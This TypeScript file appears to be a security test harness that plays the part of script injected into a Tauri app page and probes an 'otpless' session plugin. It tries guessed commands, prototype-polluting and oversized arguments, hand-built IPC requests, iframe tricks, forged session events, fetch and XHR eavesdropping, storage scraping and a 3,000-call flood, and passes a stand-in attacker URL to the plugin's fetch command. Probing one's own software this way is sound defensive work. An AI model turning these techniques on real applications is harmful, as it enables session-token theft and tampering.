/**
 * What script that got into a page can try, one attempt after the other, with nothing of this project's in its hands: only what
 * Tauri puts into every page. Everything it gets hold of is in the answer, for whoever wants to look through it.
 */

interface Internals {
  invoke(command: string, args?: unknown, options?: unknown): Promise<unknown>;
  transformCallback(callback: (data: unknown) => void, once?: boolean): number;
  runCallback(id: number, data: unknown): void;
}

/** What one call came to. */
export interface Outcome {
  /** What the call was made with, in words. */
  with: string;
  ok: boolean;
  /** The answer, or what it was refused with. */
  answer: unknown;
}

/** All that was got hold of. */
export interface Loot {
  commands: Record<string, Outcome[]>;
  /** Whatever came by on a listener or a callback. */
  heard: unknown[];
  storage: Record<string, unknown>;
  /** The tries from inside a frame. */
  frames: Record<string, unknown>;
  /** What a patched `fetch`, `XMLHttpRequest` and `postMessage` have seen pass. */
  overheard: string[];
  /** What lies about in the page: names of globals and the text of scripts. */
  lying: Record<string, unknown>;
  flood: { calls: number; answered: number };
  forged: Outcome[];
}

const COMMANDS = [
  "get_session",
  "logout",
  "record_activity",
  "verify_session",
  "refresh_session",
  "start_session",
  "get_session_token",
  "get_session_details",
  "diagnostics",
  "fetch",
  "fetch_write",
  "fetch_send",
  "fetch_read",
  "fetch_cancel",
  // Names that somebody might have forgotten.
  "get_refresh_token",
  "refresh_token",
  "get_tokens",
  "get_credentials",
  "export",
  "debug",
  "set_config",
  "GET_SESSION_TOKEN",
  "get_session_token ",
  "../get_session_token",
  "__proto__",
] as const;

/** Those of other plugins and of the app's that lead to files or windows. */
const ELSEWHERE: readonly (readonly [string, unknown])[] = [
  ["plugin:store|load", { path: "otpless.json" }],
  ["plugin:store|get", { rid: 1, key: "otpless" }],
  ["plugin:store|entries", { rid: 1 }],
  ["plugin:resources|close", { rid: 1 }],
  ["plugin:webview|create_webview_window", { options: { label: "main", url: "index.html" } }],
  ["plugin:window|create", { options: { label: "main" } }],
  ["plugin:fs|read_text_file", { path: "otpless-store.txt" }],
  ["plugin:http|fetch", { clientConfig: { method: "GET", url: "https://otpless.com", headers: [] } }],
  ["plugin:keyring|get", {}],
  ["rehearse_keychain", { locked: true }],
  ["rehearse_sleep", { seconds: 86400 }],
];

const EVENTS = [
  "otpless://session-changed",
  "otpless://token",
  "otpless://refresh",
  "rehearsal-changed",
  "tauri://focus",
  "tauri://webview-created",
  "*",
] as const;

const FLOOD = 3_000;

/** Longer than any answer takes that comes at all. */
const PATIENCE_MS = 10_000;

function internals(of: Window = window): Internals {
  return (of as unknown as { __TAURI_INTERNALS__: Internals }).__TAURI_INTERNALS__;
}

/** Arguments nobody expects, and what they are in words. Made anew for each call. */
function hostileArguments(): [string, unknown][] {
  let deep: unknown = "x";
  for (let level = 0; level < 100; level += 1) {
    deep = { result: deep };
  }
  const polluted = JSON.parse('{"__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}}}') as unknown;
  return [
    ["nothing", undefined],
    ["null", { result: null, minValidity: null, request: null, rid: null }],
    ["numbers", { result: -1, minValidity: -1, request: 1e300, rid: -1 }],
    ["a large number", { minValidity: Number.MAX_VALUE, rid: Number.MAX_SAFE_INTEGER }],
    ["texts", { result: "x".repeat(100_000), minValidity: "30", request: "", rid: "0" }],
    ["lists", { result: [], minValidity: [1], request: [[]], rid: [0] }],
    ["depths", deep],
    ["another prototype", polluted],
    ["a sign-in of the attacker's", { result: { sessionInfo: { sessionId: "a", sessionToken: "b.c.d", refreshToken: "b.c.d" } } }],
    ["a URL of the attacker's", { request: { method: "GET", url: "https://attacker.example/", headers: [] } }],
    ["raw bytes", new Uint8Array([0, 255, 123])],
  ];
}

async function attempt(words: string, act: () => unknown): Promise<Outcome> {
  try {
    return { with: words, ok: true, answer: await inTime(Promise.resolve(act())) };
  } catch (error) {
    return { with: words, ok: false, answer: plain(error) };
  }
}

function inTime<T>(answer: Promise<T>): Promise<T | "no answer"> {
  return Promise.race([answer, new Promise<"no answer">((resolve) => setTimeout(resolve, PATIENCE_MS, "no answer"))]);
}

/** As something that JSON keeps. */
function plain(value: unknown): unknown {
  return value instanceof Error ? { name: value.name, message: value.message, stack: value.stack } : value;
}

/** Puts itself between the page and the network, before anything else runs. Answers how to take it back. */
function eavesdrop(overheard: string[]): () => void {
  const note = (what: string, ...parts: unknown[]): void => {
    overheard.push([what, ...parts.map((part) => (typeof part === "string" ? part : JSON.stringify(plain(part))))].join(" "));
  };
  const { fetch, postMessage } = window;
  const { send, open } = XMLHttpRequest.prototype;
  const tauri = internals();
  const { invoke, runCallback } = tauri;
  window.fetch = async (input, init) => {
    note("fetch", String(input instanceof Request ? input.url : input), String(init?.body ?? ""));
    const response = await fetch.call(window, input, init);
    note("fetched", await response.clone().text().catch(String));
    return response;
  };
  XMLHttpRequest.prototype.open = function (this: XMLHttpRequest, ...args: unknown[]) {
    note("XMLHttpRequest", args.join(" "));
    return (open as (...args: unknown[]) => void).apply(this, args);
  };
  XMLHttpRequest.prototype.send = function (body) {
    note("sent", String(body));
    this.addEventListener("load", () => note("received", String(this.response)));
    return send.call(this, body);
  };
  window.postMessage = ((...args: unknown[]) => {
    note("postMessage", args[0]);
    return (postMessage as (...args: unknown[]) => void).apply(window, args);
  }) as typeof window.postMessage;
  // Tauri's own object may be frozen; then there is that much less to hear.
  try {
    tauri.invoke = (command, args, options) => {
      note("invoke", command, args ?? null);
      return invoke.call(tauri, command, args, options);
    };
    tauri.runCallback = (id, data) => {
      note("callback", data ?? null);
      return runCallback.call(tauri, id, data);
    };
  } catch (error) {
    note("cannot patch", error);
  }
  return () => {
    Object.assign(window, { fetch, postMessage });
    Object.assign(XMLHttpRequest.prototype, { open, send });
    try {
      Object.assign(tauri, { invoke, runCallback });
    } catch {
      // Never patched.
    }
  };
}

async function listenToEverything(heard: unknown[]): Promise<void> {
  for (const event of EVENTS) {
    for (const target of [{ kind: "Any" }, { kind: "App" }, { kind: "AnyLabel", label: "main" }]) {
      const handler = internals().transformCallback((data) => heard.push(data));
      heard.push(await attempt(`listening to ${event}`, () => internals().invoke("plugin:event|listen", { event, target, handler })));
    }
  }
}

/** Events that would make the other pages believe what is not so. */
async function forge(): Promise<Outcome[]> {
  const payloads = [
    { revision: Number.MAX_SAFE_INTEGER, status: "signedOut", reason: "revoked" },
    { revision: -1, status: "active", sessionToken: "a.b.c" },
    "signedOut",
    null,
  ];
  const forged: Outcome[] = [];
  for (const payload of payloads) {
    for (const target of [undefined, { kind: "AnyLabel", label: "main" }]) {
      const command = target === undefined ? "plugin:event|emit" : "plugin:event|emit_to";
      const args = { event: "otpless://session-changed", payload, ...(target && { target }) };
      forged.push(await attempt(JSON.stringify(args), () => internals().invoke(command, args)));
    }
  }
  return forged;
}

async function readStorage(): Promise<Record<string, unknown>> {
  const look = async (read: () => unknown): Promise<unknown> => (await attempt("", read)).answer;
  return {
    localStorage: await look(() => ({ ...localStorage })),
    sessionStorage: await look(() => ({ ...sessionStorage })),
    databases: await look(() => indexedDB.databases()),
    caches: await look(() => caches.keys()),
    cookies: document.cookie,
    "window name": window.name,
    "history state": history.state as unknown,
  };
}

/** A frame has a script world of its own, into which Tauri may have put something, and which patches do not reach. */
async function tryFrames(): Promise<Record<string, unknown>> {
  const tried: Record<string, unknown> = {};
  for (const [name, prepare] of [
    ["about:blank", () => {}],
    ["srcdoc", (frame: HTMLIFrameElement) => (frame.srcdoc = "<script>parent.framed = true</script>")],
    ["another page of the app", (frame: HTMLIFrameElement) => (frame.src = "/index.html")],
    ["the IPC itself", (frame: HTMLIFrameElement) => (frame.src = "ipc://localhost/plugin%3Aotpless%7Cget_session_token")],
  ] as const) {
    const frame = document.createElement("iframe");
    prepare(frame);
    const loaded = new Promise((resolve) => frame.addEventListener("load", resolve, { once: true }));
    document.body.append(frame);
    tried[name] = await attempt(name, async () => {
      await inTime(loaded);
      const inside = frame.contentWindow as (Window & { document: Document }) | null;
      if (inside === null) return "no window";
      const tauri = internals(inside);
      if (tauri === undefined) return { tauri: false, text: inside.document.documentElement.outerHTML };
      return {
        tauri: true,
        token: await attempt("get_session_token", () => tauri.invoke("plugin:otpless|get_session_token")),
        session: await attempt("get_session", () => tauri.invoke("plugin:otpless|get_session")),
      };
    });
    frame.remove();
  }
  return tried;
}

/** Tauri's IPC by hand, past everything that Tauri's script does. */
async function callByHand(): Promise<Outcome[]> {
  const command = encodeURIComponent("plugin:otpless|get_session_token");
  const outcomes: Outcome[] = [];
  for (const headers of [
    {},
    { "Tauri-Callback": "1", "Tauri-Error": "2", "Tauri-Invoke-Key": "" },
    { "Tauri-Callback": "1", "Tauri-Error": "2", "Tauri-Invoke-Key": "guessed", Origin: "tauri://localhost" },
  ]) {
    outcomes.push(
      await attempt(`IPC by hand with ${Object.keys(headers).length} headers`, async () => {
        const response = await fetch(`ipc://localhost/${command}`, { method: "POST", body: "{}", headers });
        const text = await response.text();
        if (!response.ok) throw new Error(`${response.status}: ${text}`);
        return text;
      }),
    );
  }
  return outcomes;
}

function lookAround(): Record<string, unknown> {
  const globals = Object.getOwnPropertyNames(window).filter((name) => /tauri|otpless|token|session|refresh/i.test(name));
  const seen: Record<string, unknown> = { globals };
  for (const name of globals) {
    try {
      const value = (window as unknown as Record<string, unknown>)[name];
      seen[name] = JSON.stringify(value, (_, inner: unknown) => (typeof inner === "function" ? String(inner) : inner));
    } catch (error) {
      seen[name] = plain(error);
    }
  }
  seen["scripts"] = [...document.scripts].map((script) => script.outerHTML);
  return seen;
}

/** As many calls at once as it can make; how many were answered at all, and with what is not of interest. */
async function flood(): Promise<Loot["flood"]> {
  const commands = ["refresh_session", "verify_session", "get_session", "record_activity", "get_session_token"];
  const calls = Array.from({ length: FLOOD }, (_, n) => internals().invoke(`plugin:otpless|${commands[n % commands.length]}`));
  const answers = await Promise.allSettled(calls);
  return { calls: FLOOD, answered: answers.length };
}

/** Everything but `logout`, which is what anybody may do to themselves and would end the show. */
export async function attack(): Promise<Loot> {
  const overheard: string[] = [];
  const heard: unknown[] = [];
  const takeBack = eavesdrop(overheard);
  await listenToEverything(heard);
  const commands: Loot["commands"] = {};
  for (const command of COMMANDS) {
    if (command === "logout") continue;
    commands[command] = [];
    for (const [words, args] of hostileArguments()) {
      commands[command].push(await attempt(words, () => internals().invoke(`plugin:otpless|${command}`, args)));
    }
  }
  commands["by hand"] = await callByHand();
  commands["elsewhere"] = [];
  for (const [command, args] of ELSEWHERE) {
    commands["elsewhere"].push(await attempt(command, () => internals().invoke(command, args)));
  }
  const frames = await tryFrames();
  const forged = await forge();
  const storage = await readStorage();
  const lying = lookAround();
  takeBack();
  return { commands, heard, storage, frames, overheard, lying, flood: await flood(), forged };
}
